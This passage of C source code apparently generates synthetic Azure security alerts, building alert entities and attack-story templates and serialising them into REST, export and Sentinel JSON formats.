        add_principal(g, a, pk, &principal);
    }
    const char *ua = PICK(&g->rng, user_agents);
    const char *where =
        loc != NULL ? sp_fmt(g, "%s, %s", loc->city, loc->country) : "internal network";
    ext_add(a, "Client IP address", ip);
    if (a->detail >= 1) {
        ext_add(a, "Client Location", where);
    }
    switch (pool) {
    case P_STORAGE: {
        const char *container = PICK(&g->rng, blob_containers);
        int bc = ent_new(a, "blob-container", 1);
        f_str(a, bc, "Name", container);
        f_ref(a, bc, "StorageResource", res);
        if (a->detail >= 1 && rng_chance(&g->rng, 0.5)) {
            int blob = ent_new(a, "blob", 1);
            const char *bname = sp_fmt(g, "export-%u.csv", rng_below(&g->rng, 10000));
            f_str(a, blob, "Name", bname);
            f_ref(a, blob, "BlobContainer", bc);
            f_str(a, blob, "Url",
                  sp_fmt(g, "https://%s.blob.core.windows.net/%s/%s", name, container, bname));
        }
        ext_add(a, "Authentication Type",
                principal[0]
                    ? "AAD"
                    : PICK(&g->rng, ((const char *const[]){"SAS", "AccountKey", "Anonymous"})));
        ext_add(a, "Service Type", "Azure Blobs");
        ext_add(a, "Container", container);
        if (a->detail >= 1) {
            ext_add(a, "User Agent", ua);
        }
        a->description =
            sp_fmt(g,
                   "Someone accessed the storage account '%s' from %s (%s) in a way that "
                   "does not match its usual access pattern.",
                   name, ip, where);
        break;
    }
    case P_KEYVAULT:
        ext_add(a, "Operations", "SecretGet, SecretList, KeyGet");
        ext_add(a, "Key Vault Name", name);
        ext_add(a, pk->sp ? "Application Id" : "User Principal Name", principal);
        a->description =
            sp_fmt(g,
                   "The key vault '%s' was accessed by %s from %s, which is unusual for this "
                   "vault. An attacker may be trying to read secrets.",
                   name, principal, ip);
        break;
    case P_SQL: {
        const char *app = PICK(&g->rng, apps);
        ext_add(a, "Client principal name", principal[0] ? principal : "sqladmin");
        ext_add(a, "Client application", app);
        ext_add(a, "Client hostname", sp_fmt(g, "DESKTOP-%04X", rng_below(&g->rng, 0xffff)));
        ext_add(a, "Potential causes",
                "Unauthorized access; a legitimate user from a new location.");
        a->description =
            sp_fmt(g, "Someone signed in to '%s' from %s (%s) using the application '%s'.", name,
                   ip, where, app);
        break;
    }
    case P_APP:
        if (rng_chance(&g->rng, 0.4)) {
            int u = ent_new(a, "url", 1);
            f_str(a, u, "Url",
                  sp_fmt(g, "https://%s.azurewebsites.net/wp-admin/admin-ajax.php?action=%s", name,
                         PICK(&g->rng, domain_words)));
        }
        if (a->detail >= 1) {
            ext_add(a, "User Agent", ua);
        }
        ext_add(a, "Instance Id", sp_fmt(g, "%016llx", (unsigned long long)rng_next(&g->rng)));
        a->description =
            sp_fmt(g, "App Service activity for '%s' shows suspicious requests from %s (%s).", name,
                   ip, where);
        break;
    case P_APIM:
        ext_add(a, "API endpoint", sp_fmt(g, "/orders/{id}"));
        ext_add(a, "Operation", "GET");
        a->description =
            sp_fmt(g,
                   "The API endpoint on '%s' received requests from %s that deviate from "
                   "its baseline.",
                   name, ip);
        break;
    case P_AI:
        ext_add(a, "Deployment name", "gpt-4o");
        if (a->detail >= 1) {
            ext_add(a, "User Agent", ua);
        }
        a->description = sp_fmt(
            g, "The AI model deployment on '%s' received a suspicious request from %s.", name, ip);
        break;
    case P_COSMOS:
    default:
        if (a->detail >= 1) {
            ext_add(a, "User Agent", ua);
        }
        a->description = sp_fmt(g, "The Azure Cosmos DB account '%s' was accessed from %s (%s).",
                                name, ip, where);
        break;
    }
}

static void build_arm(struct gen *g, struct alert *a, const struct picks *pk)
{
    uint32_t scope = (uint32_t)(a->sc - g->scopes);
    const char *principal = "";
    add_principal(g, a, pk, &principal);
    const char *ip = "";
    const struct location *loc = NULL;
    add_ip(g, a, pk, &ip, &loc);
    a->resource_id = id_variant(g, sp_fmt(g, "/subscriptions/%s", a->sc->sub));
    a->resource_rg = "";
    a->compromised = a->sc->sub;
    const char *target = NULL;
    if (pk->arm_target >= 0) {
        if (pk->arm_target == P_VM) {
            struct vminfo vm;
            vm_info(g, scope, pk->idx[P_VM], &vm);
            target = vm.id;
        } else {
            target = resource_of(g, scope, (enum pool)pk->arm_target, pk->idx[pk->arm_target], NULL,
                                 NULL);
        }
        add_azure_resource(a, target);
    }
    const char *op = PICK(&g->rng, operations);
    ext_add(a, "Client IP address", ip);
    if (loc != NULL) {
        ext_add(a, "Client Location", sp_fmt(g, "%s, %s", loc->city, loc->country));
    }
    ext_add(a, pk->sp ? "Application Id" : "Principal name", principal);
    ext_add(a, "Operations", op);
    if (a->detail >= 1) {
        ext_add(a, "User Agent", PICK(&g->rng, user_agents));
    }
    if (target != NULL) {
        ext_add(a, "Related resource IDs", target);
    }
    a->description = sp_fmt(g, "%s performed '%s' from %s, which is unusual for this principal.",
                            principal, op, ip);
}

static void build_containers(struct gen *g, struct alert *a, const struct picks *pk)
{
    uint32_t scope = (uint32_t)(a->sc - g->scopes);
    const char *rg, *name;
    const char *id = resource_of(g, scope, P_CLUSTER, pk->idx[P_CLUSTER], &rg, &name);
    a->resource_id = id_variant(g, id);
    a->resource_rg = rg;
    a->compromised = name;
    int res = add_azure_resource(a, id);
    int cl = ent_new(a, "K8s-cluster", 1);
    f_ref(a, cl, "CloudResource", res);
    const char *nsname = PICK(&g->rng, k8s_namespaces);
    int ns = ent_new(a, "K8s-namespace", 1);
    f_str(a, ns, "Name", nsname);
    f_ref(a, ns, "Cluster", cl);
    /* One draw a statement: the order of a call's arguments is unspecified (gcc and clang differ). */
    const char *role = PICK(&g->rng, roles);
    uint32_t pod_hi = rng_below(&g->rng, 0xfffff);
    uint32_t pod_lo = rng_below(&g->rng, 0xffff);
    const char *podname = sp_fmt(g, "%s-%05x-%04x", role, pod_hi, pod_lo);
    const char *image = PICK(&g->rng, k8s_images);
    /* The container comes before its pod and image, so they are defined inside it. */
    int img = ent_new(a, "container-image", 0);
    f_str(a, img, "ImageId", image);
    int pod = ent_new(a, "K8s-pod", 0);
    f_str(a, pod, "Name", podname);
    f_ref(a, pod, "Namespace", ns);
    int ct = ent_new(a, "container", 1);
    f_str(a, ct, "Name", sp_fmt(g, "%.12s", podname));
    f_ref(a, ct, "Image", img);
    f_ref(a, ct, "Pod", pod);
    a->ents[pod].top = 1; /* listed after the container: a bare {"$ref"} in the export shapes */
    a->ents[img].top = 1;
    const char *principal = "";
    if (pk->force_account || rng_chance(&g->rng, 0.3)) {
        add_principal(g, a, pk, &principal);
    }
    const char *ip = "";
    if (pk->force_ip || rng_chance(&g->rng, 0.3)) {
        add_ip(g, a, pk, &ip, NULL);
        ext_add(a, "Client IP address", ip);
    }
    if (a->row->node) {
        struct vminfo vm;
        vm_info(g, scope, pk->idx[P_VM], &vm);
        vm.name = sp_fmt(g, "aks-nodepool1-%08u-vmss%06x", (unsigned)(pk->idx[P_CLUSTER] * 7919u),
                         (unsigned)(pk->idx[P_VM] % 8));
        vm.id = sp_fmt(g,
                       "/subscriptions/%s/resourceGroups/MC_%s_%s_%s/providers/Microsoft.Compute/"
                       "virtualMachineScaleSets/aks-nodepool1-%08u-vmss/virtualMachines/%u",
                       a->sc->sub, rg, name, a->sc->region, (unsigned)(pk->idx[P_CLUSTER] * 7919u),
                       (unsigned)(pk->idx[P_VM] % 8));
        vm.os = OS_LINUX;
        vm.os_version = "Ubuntu 22.04";
        int host = add_host(g, a, &vm);
        struct proc_out po;
        add_process(g, a, pk, &vm, host, -1, domain_of(g, pk->idx[P_DOMAIN]),
                    ip[0] ? ip : "198.51.100.23", &po);
        ext_add(a, "Suspicious Process", po.path);
        ext_add(a, "Suspicious Command Line", po.cmd);
    }
    ext_add(a, "Namespace", nsname);
    ext_add(a, "Pod name", podname);
    ext_add(a, "Container image", image);
    if (principal[0]) {
        ext_add(a, "Principal name", principal);
    }
    a->description =
        sp_fmt(g,
               "Kubernetes analysis on cluster '%s' detected suspicious activity in the "
               "namespace '%s'.",
               name, nsname);
}

/* ------------------------------------------------------------------------- */
/* Writing one alert in each shape.                                          */

static int is_file(const struct ent *e)
{
    return e->type != NULL && (strcmp(e->type, "file") == 0 || strcmp(e->type, "filehash") == 0);
}

/*
 * REST has no $id/$ref. A file (or hash) is written inside what refers to it,
 * so a process keeps its image; references to hosts, accounts and processes
 * are dropped (those are listed on their own); any other entity is written
 * inline where it is first referred to, and the later references are dropped.
 */
static int is_reference_dropped_in_rest(const struct ent *target)
{
    if (target->type == NULL || is_file(target)) {
        return 0;
    }
    return target->id != 0 || strcmp(target->type, "host") == 0 ||
           strcmp(target->type, "account") == 0 || strcmp(target->type, "process") == 0;
}

struct emit_ctx {
    struct alert *a;
    int next_id;
    int rest; /* camelCase keys, no $id: references inline or dropped */
};

static void emit_ent(struct emit_ctx *c, struct jw *w, int i);

static void emit_field(struct emit_ctx *c, struct jw *w, const struct field *f)
{
    switch (f->kind) {
    case F_STR:
        jw_kstr(w, f->key, f->v.s);
        break;
    case F_INT:
        jw_key(w, f->key);
        jw_int(w, f->v.i);
        break;
    case F_DBL:
        jw_key(w, f->key);
        jw_dbl(w, f->v.d);
        break;
    case F_BOOL:
        jw_kraw(w, f->key, f->v.i ? "true" : "false");
        break;
    case F_REF:
        if (c->rest && is_reference_dropped_in_rest(&c->a->ents[f->v.ref])) {
            break;
        }
        jw_key(w, f->key);
        emit_ent(c, w, f->v.ref);
        break;
    case F_REFS:
        jw_key(w, f->key);
        jw_open(w, '[');
        for (int k = 0; k < f->n; k++) {
            emit_ent(c, w, f->v.refs[k]);
        }
        jw_close(w, ']');
        break;
    default:
        break;
    }
}

/* Json.NET PreserveReferencesHandling.Objects: the first occurrence defines "$id", later ones
 * "$ref". */
static void emit_ent(struct emit_ctx *c, struct jw *w, int i)
{
    struct ent *e = &c->a->ents[i];
    if (!c->rest && e->type != NULL && e->id != 0) {
        char ref[16];
        snprintf(ref, sizeof ref, "%d", e->id);
        jw_open(w, '{');
        jw_kstr(w, "$ref", ref);
        jw_close(w, '}');
        return;
    }
    jw_open(w, '{');
    if (e->type != NULL) {
        e->id = c->next_id++;
    }
    if (!c->rest && e->type != NULL) {
        char id[16];
        snprintf(id, sizeof id, "%d", e->id);
        jw_kstr(w, "$id", id);
    }
    for (int k = 0; k < e->nf; k++) {
        emit_field(c, w, &e->f[k]);
    }
    if (e->type != NULL) {
        jw_kstr(w, "Type", e->type);
    }
    jw_close(w, '}');
}

static void emit_entities(struct alert *a, struct jw *w, int rest, int first_id)
{
    struct emit_ctx c = {a, first_id, rest};
    unsigned char referenced[MAX_ENTS] = {0};
    for (int i = 0; i < a->nents; i++) {
        a->ents[i].id = 0;
        for (int k = 0; k < a->ents[i].nf; k++) {
            const struct field *f = &a->ents[i].f[k];
            if (f->kind == F_REF) {
                referenced[f->v.ref] = 1;
            } else if (f->kind == F_REFS) {
                for (int j = 0; j < f->n; j++) {
                    referenced[f->v.refs[j]] = 1;
                }
            }
        }
    }
    jw_open(w, '[');
    for (int i = 0; i < a->nents; i++) {
        const struct ent *e = &a->ents[i];
        /* REST: an entity written inside another (or to be) is not listed again. */
        if (!e->top || (rest && (e->id != 0 || (is_file(e) && referenced[i])))) {
            continue;
        }
        emit_ent(&c, w, i);
    }
    jw_close(w, ']');
}

static const char *const status_rest[] = {"Active", "InProgress", "Resolved", "Dismissed"};
static const char *const status_export[] = {"New", "InProgress", "Resolved", "Dismissed"};

/* "DefenseEvasion, Execution" -> techniques written by each shape's writer. */
static int techniques(const struct alert *a, const char *out[4])
{
    int n = 0;
    const char *p = a->row->tactics;
    while (*p && n < 4) {
        const char *q = strchr(p, ',');
        size_t len = q ? (size_t)(q - p) : strlen(p);
        const char *t = technique_of(p, len);
        int dup = 0;
        for (int i = 0; i < n; i++) {
            dup |= t != NULL && strcmp(out[i], t) == 0;
        }
        if (t != NULL && !dup) {
            out[n++] = t;
        }
        if (q == NULL) {
            break;
        }
        p = q + 1;
        while (*p == ' ') {
            p++;
        }
    }
    return n;
}

/* The "Investigation steps" value: JSON text inside a string, as the public export sample has it.
 */
static const char investigation_steps[] =
    "{\"displayValue\":\"View related activity in Log Analytics\",\"kind\":\"Link\","
    "\"value\":\"https:\\/\\/go.microsoft.com\\/fwlink\\/?linkid=2091064\"}";

static void emit_ext(const struct alert *a, struct jw *w)
{
    jw_open(w, '{');
    for (int i = 0; i < a->next; i++) {
        jw_kstr(w, a->ext[i].k, a->ext[i].v);
    }
    if (a->with_links) {
        jw_kstr(w, "Investigation steps", investigation_steps);
    }
    jw_close(w, '}');
}

static void emit_rest(struct gen *g, struct alert *a, struct buf *b)
{
    struct jw w;
    jw_init(&w, b, 0);
    char t_start[TIME_TEXT], t_end[TIME_TEXT], t_gen[TIME_TEXT], t_proc[TIME_TEXT];
    fmt_time(a->start, t_start);
    fmt_time(a->end, t_end);
    fmt_time(a->generated, t_gen);
    fmt_time(a->processed, t_proc);
    jw_open(&w, '{');
    jw_key(&w, "id");
    jw_str(&w, sp_fmt(g,
                      "/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Security/locations/"
                      "%s/alerts/%s",
                      a->sc->sub, a->resource_rg[0] ? a->resource_rg : "defaultresourcegroup",
                      a->sc->region, a->id));
    jw_kstr(&w, "name", a->id);
    jw_kstr(&w, "type", "Microsoft.Security/Locations/alerts");
    jw_key(&w, "properties");
    jw_open(&w, '{');
    jw_kstr(&w, "status", status_rest[a->status]);
    jw_kstr(&w, "timeGeneratedUtc", t_gen);
    if (a->detail >= 1) {
        jw_kstr(&w, "processingEndTimeUtc", t_proc);
    }
    jw_kstr(&w, "version", "2022-01-01.0");
    jw_kstr(&w, "vendorName", "Microsoft");
    jw_kstr(&w, "productName", "Azure Security Center");
    jw_kstr(&w, "productComponentName", plan_component[a->row->plan]);
    jw_kstr(&w, "alertType", a->row->type);
    jw_kstr(&w, "startTimeUtc", t_start);
    jw_kstr(&w, "endTimeUtc", t_end);
    jw_kstr(&w, "severity", a->severity);
    jw_kraw(&w, "isIncident", "false");
    jw_kstr(&w, "systemAlertId", a->id);
    if (a->correlation_key != NULL) {
        jw_kstr(&w, "correlationKey", a->correlation_key);
    }
    jw_kstr(&w, "intent", a->row->tactics);
    jw_key(&w, "resourceIdentifiers");
    jw_open(&w, '[');
    jw_open(&w, '{');
    jw_kstr(&w, "azureResourceId", a->resource_id);
    jw_kstr(&w, "type", "AzureResource");
    jw_close(&w, '}');
    if (a->agent_id != NULL) {
        jw_open(&w, '{');
        jw_kstr(&w, "workspaceId", a->sc->workspace);
        jw_kstr(&w, "workspaceSubscriptionId", a->sc->sub);
        jw_kstr(&w, "workspaceResourceGroup", a->sc->ws_rg);
        jw_kstr(&w, "agentId", a->agent_id);
        jw_kstr(&w, "type", "LogAnalytics");
        jw_close(&w, '}');
    }
    jw_close(&w, ']');
    jw_kstr(&w, "compromisedEntity", a->compromised);
    jw_kstr(&w, "alertDisplayName", a->row->name);
    jw_kstr(&w, "description", a->description);
    jw_key(&w, "remediationSteps");
    jw_open(&w, '[');
    for (int i = 0; i < a->nsteps; i++) {
        jw_str(&w, a->steps[i]);
    }
    jw_close(&w, ']');
    jw_key(&w, "extendedProperties");
    emit_ext(a, &w);
    jw_key(&w, "entities");
    w.camel = 1;
    emit_entities(a, &w, 1, 1);
    w.camel = 0;
    if (a->alert_uri != NULL) {
        jw_kstr(&w, "alertUri", a->alert_uri);
    }
    const char *tech[4];
    int nt = techniques(a, tech);
    jw_key(&w, "techniques");
    jw_open(&w, '[');
    for (int i = 0; i < nt; i++) {
        jw_str(&w, tech[i]);
    }
    jw_close(&w, ']');
    jw_close(&w, '}');
    jw_close(&w, '}');
}

static void emit_export(struct alert *a, struct buf *b)
{
    struct jw w;
    jw_init(&w, b, 0);
    char t_start[TIME_TEXT], t_end[TIME_TEXT], t_gen[TIME_TEXT], t_proc[TIME_TEXT];
    fmt_time(a->start, t_start);
    fmt_time(a->end, t_end);
    fmt_time(a->generated, t_gen);
    fmt_time(a->processed, t_proc);
    jw_open(&w, '{');
    jw_kstr(&w, "VendorName", "Microsoft");
    jw_kstr(&w, "AlertType", a->row->type);
    jw_kstr(&w, "ProductName", "Azure Security Center");
    jw_kstr(&w, "StartTimeUtc", t_start);
    jw_kstr(&w, "EndTimeUtc", t_end);
    jw_kstr(&w, "TimeGenerated", t_gen);
    if (a->detail >= 1) {
        jw_kstr(&w, "ProcessingEndTime", t_proc);
    }
    jw_kstr(&w, "Severity", a->severity);
    jw_kstr(&w, "Status", status_export[a->status]);
    jw_kraw(&w, "IsIncident", "false");
    jw_kstr(&w, "SystemAlertId", a->id);
    if (a->correlation_key != NULL) {
        jw_kstr(&w, "CorrelationKey", a->correlation_key);
    } else if (a->detail >= 1) {
        jw_kraw(&w, "CorrelationKey", "null");
    }
    jw_kstr(&w, "Intent", a->row->tactics);
    jw_kstr(&w, "AzureResourceId", a->resource_id);
    if (a->agent_id != NULL) {
        jw_kstr(&w, "WorkspaceId", a->sc->workspace);
        jw_kstr(&w, "WorkspaceSubscriptionId", a->sc->sub);
        jw_kstr(&w, "WorkspaceResourceGroup", a->sc->ws_rg);
        jw_kstr(&w, "AgentId", a->agent_id);
    }
    jw_kstr(&w, "CompromisedEntity", a->compromised);
    jw_kstr(&w, "AlertDisplayName", a->row->name);
    jw_kstr(&w, "Description", a->description);
    jw_key(&w, "Entities");
    int n_ri = a->agent_id != NULL ? 3 : 2;
    emit_entities(a, &w, 0, 2 + n_ri);
    jw_key(&w, "ResourceIdentifiers");
    jw_open(&w, '[');
    jw_open(&w, '{');
    jw_kstr(&w, "$id", "2");
    jw_kstr(&w, "AzureResourceId", a->resource_id);
    jw_kstr(&w, "Type", "AzureResource");
    jw_kstr(&w, "AzureResourceTenantId", a->sc->tenant);
    jw_close(&w, '}');
    if (a->with_aad) {
        jw_open(&w, '{');
        jw_kstr(&w, "$id", "3");
        jw_kstr(&w, "AadTenantId", a->sc->tenant);
        jw_kstr(&w, "Type", "AAD");
        jw_close(&w, '}');
    }
    if (a->agent_id != NULL) {
        jw_open(&w, '{');
        jw_kstr(&w, "$id", "4");
        jw_kstr(&w, "WorkspaceId", a->sc->workspace);
        jw_kstr(&w, "WorkspaceSubscriptionId", a->sc->sub);
        jw_kstr(&w, "WorkspaceResourceGroup", a->sc->ws_rg);
        jw_kstr(&w, "AgentId", a->agent_id);
        jw_kstr(&w, "Type", "LogAnalytics");
        jw_close(&w, '}');
    }
    jw_close(&w, ']');
    jw_key(&w, "RemediationSteps");
    jw_open(&w, '[');
    for (int i = 0; i < a->nsteps; i++) {
        jw_str(&w, a->steps[i]);
    }
    jw_close(&w, ']');
    jw_key(&w, "ExtendedProperties");
    emit_ext(a, &w);
    if (a->alert_uri != NULL) {
        jw_kstr(&w, "AlertUri", a->alert_uri);
    }
    jw_close(&w, '}');
}

/* Log Analytics writes the dynamic columns as JSON text: build it aside, then write it as a string.
 */
static void emit_sentinel(struct gen *g, struct alert *a, struct buf *b)
{
    struct jw w, inner;
    jw_init(&w, b, 0);
    char t_start[TIME_TEXT], t_end[TIME_TEXT], t_gen[TIME_TEXT], t_proc[TIME_TEXT];
    fmt_time(a->start, t_start);
    fmt_time(a->end, t_end);
    fmt_time(a->generated, t_gen);
    fmt_time(a->processed, t_proc);
    jw_open(&w, '{');
    jw_kstr(&w, "TenantId", a->sc->tenant);
    jw_kstr(&w, "TimeGenerated", t_gen);
    jw_kstr(&w, "DisplayName", a->row->name);
    jw_kstr(&w, "AlertSeverity", a->severity);
    jw_kstr(&w, "Description", a->description);
    jw_kstr(&w, "ProviderName", "Azure Security Center");
    jw_kstr(&w, "VendorName", "Microsoft");
    jw_kstr(&w, "SystemAlertId", a->id);
    jw_kstr(&w, "ResourceId", a->resource_id);
    jw_kstr(&w, "AlertType", a->row->type);
    jw_kraw(&w, "IsIncident", "false");
    jw_kstr(&w, "StartTime", t_start);
    jw_kstr(&w, "EndTime", t_end);
    if (a->detail >= 1) {
        jw_kstr(&w, "ProcessingEndTime", t_proc);
    }

    /* RemediationSteps: Json.NET indented text, with \r\n line breaks. */
    g->tmp.len = 0;
    buf_ch(&g->tmp, '[');
    for (int i = 0; i < a->nsteps; i++) {
        buf_cstr(&g->tmp, i ? ",\r\n  " : "\r\n  ");
        buf_json_str(&g->tmp, a->steps[i], strlen(a->steps[i]));
    }
    buf_cstr(&g->tmp, "\r\n]");
    jw_key(&w, "RemediationSteps");
    jw_prefix(&w);
    buf_json_str(b, g->tmp.p, g->tmp.len);

    g->tmp.len = 0;
    jw_init(&inner, &g->tmp, 0);
    jw_open(&inner, '{');
    for (int i = 0; i < a->next; i++) {
        jw_kstr(&inner, a->ext[i].k, a->ext[i].v);
    }
    if (a->with_links) {
        jw_kstr(&inner, "Investigation steps", investigation_steps);
    }
    jw_close(&inner, '}');
    jw_key(&w, "ExtendedProperties");
    jw_prefix(&w);
    buf_json_str(b, g->tmp.p, g->tmp.len);

    g->tmp.len = 0;
    jw_init(&inner, &g->tmp, 0);
    emit_entities(a, &inner, 0, 2);
    jw_key(&w, "Entities");
    jw_prefix(&w);
    buf_json_str(b, g->tmp.p, g->tmp.len);

    jw_kstr(&w, "SourceSystem", "Detection");
    jw_kstr(&w, "WorkspaceSubscriptionId", a->sc->sub);
    jw_kstr(&w, "WorkspaceResourceGroup", a->sc->ws_rg);
    jw_kstr(&w, "ProductName", "Azure Security Center");
    jw_kstr(&w, "ProductComponentName", plan_component[a->row->plan]);
    jw_kstr(&w, "AlertLink", a->alert_uri != NULL ? a->alert_uri : "");
    jw_kstr(&w, "Status", status_export[a->status]);
    jw_kstr(&w, "CompromisedEntity", a->compromised);
    jw_kstr(&w, "Tactics", a->row->tactics);
    const char *tech[4];
    int nt = techniques(a, tech);
    g->tmp.len = 0;
    for (int i = 0; i < nt; i++) {
        if (i) {
            buf_cstr(&g->tmp, ", ");
        }
        buf_cstr(&g->tmp, tech[i]);
    }
    jw_key(&w, "Techniques");
    jw_prefix(&w);
    buf_json_str(b, g->tmp.p, g->tmp.len);
    jw_kstr(&w, "Type", "SecurityAlert");
    jw_close(&w, '}');
}

/* ------------------------------------------------------------------------- */
/* Putting an alert together.                                                */

/*
 * --lifetime-days L: the entity at Zipf rank `rank` of a pool is replaced by a
 * new one every L days (its generation), each slot at its own phase, so that
 * an entity is active for at most L days and then never seen again, while the
 * number of live entities, their popularity and the per-day rate stay the
 * same however long the span. Without it (L = 0) a pool's entities live for
 * the whole span.
 */
static uint32_t live_index(const struct gen *g, uint32_t scope, enum pool pool, uint32_t rank,
                           int64_t t)
{
    if (g->lifetime_ticks <= 0) {
        return rank;
    }
    uint64_t phase = ent_hash(g, scope, pool, rank ^ 0x11fe0000u) % (uint64_t)g->lifetime_ticks;
    int64_t since = t - g->span_start + (int64_t)phase;
    uint64_t generation = since > 0 ? (uint64_t)(since / g->lifetime_ticks) : 0;
    return rank + pool_size[pool] * (uint32_t)generation;
}

static void draw_picks(struct gen *g, uint32_t scope, enum os os, int64_t t, struct picks *pk)
{
    for (int p = 0; p < P_COUNT; p++) {
        pk->idx[p] = live_index(g, scope, (enum pool)p, zipf_draw(&g->zipf[p], &g->rng), t);
    }
    if (os != OS_ANY) {
        for (int tries = 0; tries < 30; tries++) {
            struct vminfo vm;
            vm_info(g, scope, pk->idx[P_VM], &vm);
            if (vm.os == os) {
                break;
            }
            pk->idx[P_VM] = live_index(g, scope, P_VM, zipf_draw(&g->zipf[P_VM], &g->rng), t);
        }
    }
    pk->attack_ip = rng_chance(&g->rng, 0.65);
    pk->sp = rng_chance(&g->rng, 0.3);
    pk->force_account = 0;
    pk->force_ip = 0;
    pk->proc_slot = -1;
    pk->proc_time = 0;
    pk->arm_target =
        rng_chance(&g->rng, 0.4) ? PICK(&g->rng, ((const int[]){P_VM, P_STORAGE, P_KEYVAULT})) : -1;
}

static void build_alert(struct gen *g, const struct spec *sp, struct alert *a)
{
    const struct row *row = &g->cat.rows[sp->row];
    memset(a, 0, offsetof(struct alert, ents));
    a->nents = 0;
    a->row = row;
    a->sc = &g->scopes[sp->scope];
    a->shape = (enum shape)sp->shape;
    a->start = sp->start;
    a->generated = sp->arrival;
    int64_t lag = sp->arrival - sp->start;
    a->end = rng_chance(&g->rng, 0.5) ? a->start
                                      : a->start + (int64_t)(rng_unit(&g->rng) * 0.8 * (double)lag);
    a->processed = a->generated + (int64_t)rng_below(&g->rng, 30 * TICKS_PER_SEC);
    char guid[37];
    uint64_t guid_hi = rng_next(&g->rng); /* one draw a statement, as above */
    uint64_t guid_lo = rng_next(&g->rng);
    fmt_guid(guid_hi, guid_lo, guid);
    snprintf(a->id, sizeof a->id, "%llu_%s",
             (unsigned long long)(ALERT_ID_BASE - (uint64_t)(a->start + DOTNET_EPOCH_TICKS)), guid);
    a->severity = row->sev[rng_below(&g->rng, (uint32_t)row->nsev)];
    uint32_t st = rng_below(&g->rng, 100);
    a->status = st < 80 ? 0 : st < 85 ? 1 : st < 95 ? 2 : 3;
    uint32_t d = rng_below(&g->rng, 100);
    a->minimal = d < g->detail_cut[0];
    a->detail = d < g->detail_cut[1] ? 0 : d < g->detail_cut[2] ? 1 : 2;
    if (sp->story >= 0 && a->detail == 0) {
        a->detail = 1;
    }
    a->with_links = a->detail == 2 && rng_chance(&g->rng, 0.5);
    a->with_aad = rng_chance(&g->rng, 0.3);
    if (rng_chance(&g->rng, 0.3)) {
        char *ck = sp_alloc(g, 45);
        static const char b64[] =
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        for (int i = 0; i < 43; i++) {
            ck[i] = b64[rng_below(&g->rng, 64)];
        }
        ck[43] = '=';
        ck[44] = '\0';
        a->correlation_key = ck;
    }
    struct picks pk;
    if (sp->story >= 0) {
        pk = g->stories[sp->story].picks;
    } else {
        draw_picks(g, sp->scope, row->os, sp->start, &pk);
    }
    switch (row->plan) {
    case GP_SERVERS:
        build_servers(g, a, &pk, 0, 0);
        break;
    case GP_NETWORK:
        if (row->ddos) {
            build_ddos(g, a, &pk);
        } else {
            build_servers(g, a, &pk, 1, 0);
        }
        break;
    case GP_DNS:
        build_servers(g, a, &pk, 0, 1);
        break;
    case GP_STORAGE:
        build_paas(g, a, &pk, P_STORAGE);
        break;
    case GP_KEYVAULT:
        build_paas(g, a, &pk, P_KEYVAULT);
        break;
    case GP_SQL:
        build_paas(g, a, &pk, P_SQL);
        break;
    case GP_COSMOS:
        build_paas(g, a, &pk, P_COSMOS);
        break;
    case GP_APPSERVICE:
        build_paas(g, a, &pk, P_APP);
        break;
    case GP_APIS:
        build_paas(g, a, &pk, P_APIM);
        break;
    case GP_AI:
        build_paas(g, a, &pk, P_AI);
        break;
    case GP_ARM:
        build_arm(g, a, &pk);
        break;
    case GP_CONTAINERS:
        build_containers(g, a, &pk);
        break;
    default:
        build_paas(g, a, &pk, P_STORAGE);
        break;
    }
    if (a->minimal && a->detail == 0) {
        a->correlation_key = NULL;
        a->with_aad = 0;
        if (a->next > 1) {
            a->next = 1;
        }
    }
    uint32_t first = rng_below(&g->rng, 3);
    a->nsteps = a->detail == 2 ? 2 : 1;
    for (int i = 0; i < a->nsteps; i++) {
        a->steps[i] = remediation[row->plan][(first + (uint32_t)i) % 3];
    }
    a->alert_uri =
        a->detail < 2
            ? NULL
            : sp_fmt(
                  g,
                  "https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/%s/"
                  "subscriptionId/%s/resourceGroup/%s/referencedFrom/alertDeepLink/location/%s",
                  a->id, a->sc->sub, a->resource_rg[0] ? a->resource_rg : "defaultresourcegroup",
                  a->sc->region);
}

/* ------------------------------------------------------------------------- */
/* Attack stories: a few alerts of different plans that share entities.      */

struct story_tpl {
    const char *kind;
    int principal_sp; /* 0 user, 1 service principal, -1 either */
    enum os os;
    int arm_target; /* pool, or -1 */
    int shared_process;
    const char *types[MAX_STEPS];
};

static const struct story_tpl story_tpls[] = {
    {"crypto-mining",
     -1,
     OS_LINUX,
     -1,
     0,
     {"SSH_Incoming_BF_OneToOne", "VM_SshBruteForceSuccess", "VM_MinerInContainerImage", NULL}},
    {"crypto-mining-windows",
     -1,
     OS_WINDOWS,
     -1,
     0,
     {"RDP_Incoming_BF_OneToOne", "VM_LoginBruteForceSuccess", "VM_DigitalCurrencyMining", NULL}},
    {"key-vault",
     0,
     OS_ANY,
     P_KEYVAULT,
     0,
     {"ARM_OperationFromSuspiciousIP", "KV_SuspiciousIPAccess", "KV_ListGetAnomaly", NULL}},
    {"sas",
     -1,
     OS_ANY,
     P_STORAGE,
     0,
     {"Storage.Blob_AccountSas.UnusualOperationFromExternalIp", "ARM_AnomalousOperation.Collection",
      NULL, NULL}},
    {"exfiltration",
     0,
     OS_ANY,
     P_STORAGE,
     0,
     {"ARM_AnomalousOperation.Collection", "Storage.Blob_DataExfiltration.AmountOfDataAnomaly",
      NULL, NULL}},
    {"machine-botnet",
     -1,
     OS_WINDOWS,
     -1,
     0,
     {"RDP_Incoming_BF_OneToOne", "VM_LoginBruteForceSuccess", "VM_AmDisablement",
      "Network_CommunicationWithC2"}},
    {"kubernetes",
     0,
     OS_ANY,
     P_CLUSTER,
     0,
     {"ARM_AnomalousOperation.InitialAccess", "K8S_AbnormalMiActivity",
      "K8S_ServiceAccountRareOperation", NULL}},
    {"azure-toolkit",
     1,
     OS_ANY,
     P_KEYVAULT,
     0,
     {"ARM_MicroBurst.AzKeyVaultSecretsREST", "KV_AppAnomaly", NULL, NULL}},
    {"fileless",
     -1,
     OS_LINUX,
     -1,
     0,
     {"VM_MailserverExploitation", "VM_FilelessAttackTechnique.Linux", NULL, NULL}},
    {"shared-process",
     -1,
     OS_WINDOWS,
     -1,
     1,
     {"VM_SuspiciousActivity", "VM_SystemProcessInAbnormalContext", NULL, NULL}},
    {"sql",
     -1,
     OS_ANY,
     P_SQL,
     0,
